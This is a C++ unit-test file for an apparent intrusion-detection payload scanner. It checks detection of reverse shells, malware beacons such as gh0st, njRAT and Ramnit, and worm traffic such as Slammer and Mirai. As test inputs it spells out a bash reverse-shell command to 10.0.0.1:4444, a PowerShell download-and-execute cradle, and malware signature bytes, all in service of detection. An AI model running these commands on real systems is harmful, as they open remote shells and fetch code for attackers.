// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/protocol/payload_catalogue.h"
#include "core/protocol/payload_patterns.h"
#include "tests/protocol/recording_host.h"

#include <gtest/gtest.h>

#include <random>

using namespace metsuke;
using namespace std::string_literals;

namespace {

struct Flow {
    uint8_t proto = 6;
    std::string_view service;
    uint16_t port = 4444;
};

RecordingHost scan(const std::vector<Turn>& turns, Flow flow = {}, size_t chunk = 1 << 20) {
    RecordingHost host;
    host.flowInfo.proto = flow.proto;
    host.flowInfo.service = flow.service;
    host.flowInfo.respPort = flow.port;
    const auto scanner = makePayloadScanner(host.flowInfo);
    for (const auto& turn : turns) {
        const Bytes bytes = asBytes(turn.bytes);
        for (size_t at = 0; at < bytes.size(); at += chunk) {
            scanner->scan(turn.direction, bytes.subspan(at, std::min(chunk, bytes.size() - at)), host);
        }
    }
    return host;
}

std::string names(const RecordingHost& host) {
    std::string text;
    for (const auto& event : host.of<PayloadEvent>()) {
        text += event.pattern + '@' + std::to_string(event.position) + (event.from_responder ? "< " : "> ");
    }
    return text;
}

} // namespace

TEST(PayloadPatterns, WindowsBannerOfVictim_isShellWhateverTheChunks) {
    const std::vector<Turn> turns{fromClient("xx\r\nMicrosoft Windows [Version 6.1.7601]\r\n(c) 2009\r\n\r\nC:\\Windows\\system32>"), fromServer("whoami\n")};
    for (const size_t chunk : {1U, 3U, 17U, 1000U}) {
        EXPECT_EQ(names(scan(turns, {}, chunk)), "shell.windows-banner@4> shell.windows-prompt@55> shell.typed-command@0< ") << chunk;
    }
    const auto host = scan(turns);
    const auto events = host.of<PayloadEvent>();
    ASSERT_EQ(events.size(), 3U);
    EXPECT_EQ(events[0].family, "shell");
    EXPECT_NE(events[0].excerpt.find("6.1.7601"), std::string::npos);
}

TEST(PayloadPatterns, QuotableText_isIgnoredInWebPagesAndMailOnly) {
    const std::string text = "run: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    EXPECT_EQ(names(scan({fromServer(text)}, {6, "http", 80})), "");
    EXPECT_EQ(names(scan({fromClient(text)}, {6, "smtp", 25})), "");
    EXPECT_EQ(names(scan({fromClient(text)}, {6, "http", 80})), "shell.unix-reverse-command@5> ");
    EXPECT_EQ(names(scan({fromServer(text)}, {6, "", 4444})), "shell.unix-reverse-command@5< ");
}

TEST(PayloadPatterns, Gh0stHeader_isRecognisedByShape) {
    const std::string variant = "HTTPS"s + "\x7c\x00\x00\x00\xe0\x00\x00\x00\x78\x9c"s + std::string(100, 'z');
    EXPECT_EQ(names(scan({fromClient(variant)})), "rat.gh0st@0> ");
    EXPECT_EQ(names(scan({fromClient(variant)}, {}, 1)), "rat.gh0st@0> ");
    EXPECT_EQ(names(scan({fromClient("HTTPS"s + "\x7c\x00\x00\x40\xe0\x00\x00\x00\x78\x9c"s)})), "") << "absurd length";
}

TEST(PayloadPatterns, SlammerDatagram_needsItsPortAndStart) {
    const std::string body = "\x04"s + std::string(96, '\x01') + "\xdc\xc9"s;
    EXPECT_EQ(names(scan({fromClient(body)}, {17, "", 1434})), "worm.slammer@0> ");
    EXPECT_EQ(names(scan({fromClient("x"), fromClient(body)}, {17, "", 1434})), "worm.slammer@1> ") << "second datagram";
    EXPECT_EQ(names(scan({fromClient(body)}, {17, "", 1435})), "");
    EXPECT_EQ(names(scan({fromClient(body)}, {6, "", 1434})), "");
}

TEST(PayloadPatterns, ExactPattern_needsItsCase) {
    EXPECT_EQ(names(scan({fromClient("gh0st\1\1\1\1\1\1\1\1\1\1\1")})), "");
    EXPECT_EQ(names(scan({fromClient("Gh0st\1\1\1\1\1\1\1\1\1\1\1")})), "rat.gh0st@0> ");
    EXPECT_EQ(names(scan({fromServer("iex(new-object net.webclient).downloadstring('http://x')")})), "shell.powershell-cradle@0< ");
}

TEST(PayloadPatterns, RepeatedPattern_isOneEventAFlow) {
    EXPECT_EQ(names(scan({fromClient("uid=0(root) gid=0(root)\n"), fromClient("uid=0(root) gid=0(root)\n")})), "shell.unix-root-id@0> ");
}

TEST(PayloadPatterns, EveryString_isFoundWhereItMayStand) {
    for (const auto& item : payloadStrings()) {
        const bool server = item.where.side == PayloadWhere::Side::Server;
        const std::string text = std::string(item.where.offset > 0 ? static_cast<size_t>(item.where.offset) : 0, '.') + std::string(item.bytes);
        const bool datagram = item.where.transport == PayloadWhere::Transport::Datagram;
        const auto host = scan({server ? fromServer(text) : fromClient(text)}, {static_cast<uint8_t>(datagram ? 17 : 6), "", item.where.port});
        EXPECT_NE(names(host).find(item.name), std::string::npos) << item.name << ' ' << item.bytes;
    }
}

TEST(PayloadPatterns, RandomBytes_matchNothing) {
    std::mt19937 random(7);
    std::string noise(8 << 20, '\0');
    for (char& c : noise) {
        c = static_cast<char>(random());
    }
    EXPECT_EQ(names(scan({fromClient(noise), fromServer(noise)}, {}, 1460)), "");
}

TEST(PayloadPatterns, IntroductionOfNjrat_isSeenWhateverTheSeparator) {
    EXPECT_EQ(names(scan({fromClient("210\0ll|Hassan|dmljdGlt"s)})), "rat.njrat@0> ");
    EXPECT_EQ(names(scan({fromClient("7\0llY262"s)})), "rat.njrat@0> ");
    EXPECT_EQ(names(scan({fromClient("21099\0ll|H|dmljdGlt"s)})), ""); // too many digits
    EXPECT_EQ(names(scan({fromClient("210\0list of it"s)})), "");
}

TEST(PayloadPatterns, RegistrationOfRamnit_isSeen) {
    EXPECT_EQ(names(scan({fromClient("\0\xff\x4b\0\0\0\xe2\0\x20\0\0\0abcdefgh"s)})), "rat.ramnit@0> ");
    EXPECT_EQ(names(scan({fromClient("\0\xff\x4b\0\0\0\xe2\0\x21\0\0\0abcdefgh"s)})), "");
}

TEST(PayloadPatterns, FirstLineThatAnIntruderTypes_isShell) {
    for (const size_t chunk : {1U, 100U}) {
        EXPECT_EQ(names(scan({fromServer("\nwhoami\n")}, {}, chunk)), "shell.typed-command@0< ") << chunk;
    }
    EXPECT_EQ(names(scan({fromClient("uname -a\r\n")})), "shell.typed-command@0> ");
    EXPECT_EQ(names(scan({fromClient("whoami is a command\n")})), "");
    EXPECT_EQ(names(scan({fromClient("GET /\nwhoami\n")})), "");
}

TEST(PayloadPatterns, OrdersOfDeviceBots_areWorms) {
    EXPECT_EQ(names(scan({fromServer("!* SCANNER ON\n")})), "worm.gafgyt@0< ");
    EXPECT_EQ(names(scan({fromClient("shell\r\nsh\r\n/bin/busybox SORA\r\n")}, {6, {}, 23})), "worm.mirai@0> ");
}

TEST(PayloadPatterns, MarkOfTheSelftest_isExcerptedWholeWhateverStandsBeforeIt) {
    const std::string mark = "metsuke-selftest-smb-0123456789abcdef";
    const auto host = scan({fromClient(std::string(200, '\0') + mark + "\x01\x02"), fromServer("220 " + mark)});
    EXPECT_EQ(names(host), "selftest.request@200> selftest.answer@4< ");
    for (const auto& event : host.of<PayloadEvent>()) {
        EXPECT_TRUE(event.excerpt.starts_with(mark)) << event.excerpt;
    }
}
